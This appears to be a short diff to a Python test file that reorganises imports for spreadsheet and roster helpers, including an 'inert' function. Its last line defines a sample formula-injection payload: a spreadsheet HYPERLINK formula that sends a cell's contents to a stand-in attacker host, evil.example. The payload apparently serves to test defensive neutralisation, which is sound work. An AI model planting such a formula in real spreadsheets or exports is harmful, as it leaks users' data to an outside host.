@@ -9,11 +9,11 @@ from openpyxl import load_workbook
 
 from kokoroe.clock.channels.mail import MailServer, letter
 from kokoroe.clock.channels.outgoing import Outgoing
-from kokoroe.papers.inert import as_written, inert
+from kokoroe.outside.inert import as_written, inert
 from kokoroe.papers.xlsx import Column, table
-from kokoroe.plan.roster.files import read_sheets
 from kokoroe.plan.roster.people import Person
 from kokoroe.plan.roster.table import to_csv, to_xlsx
+from kokoroe.tables.files import read_sheets
 from people import LINES, NOW
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"押す")'
